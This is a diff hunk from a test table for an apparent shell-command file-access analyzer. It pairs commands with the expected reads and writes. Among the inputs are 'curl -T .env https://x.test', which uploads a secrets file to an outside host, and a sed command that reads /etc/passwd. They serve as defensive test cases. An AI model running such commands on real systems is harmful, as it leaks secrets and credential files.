@@ -222,7 +222,7 @@ describe("files", () => {
     ["tar xf a.tar -C /out", ["read /ws/a.tar", "write all of /out"]],
     ["sed -i s/a/b/ f", ["read /ws/f", "write /ws/f"]],
     ["sed 'r /etc/passwd' f", ["unknown /etc/passwd", "read /ws/f"]],
-    ["grep -e x -f pats f", ["unknown /ws/x", "read /ws/pats", "read /ws/f"]],
+    ["grep -e x -f pats f", ["unknown /ws/x", "read all of /ws/pats", "read /ws/f"]],
     ["curl -T .env https://x.test", ["unknown /ws/.env", "read /ws/.env"]],
     ["git log >log 2>/dev/null", ["write /ws/log"]],
     ["ls 2>&1 <> f", ["read /ws/f", "write /ws/f", "list /ws"]],
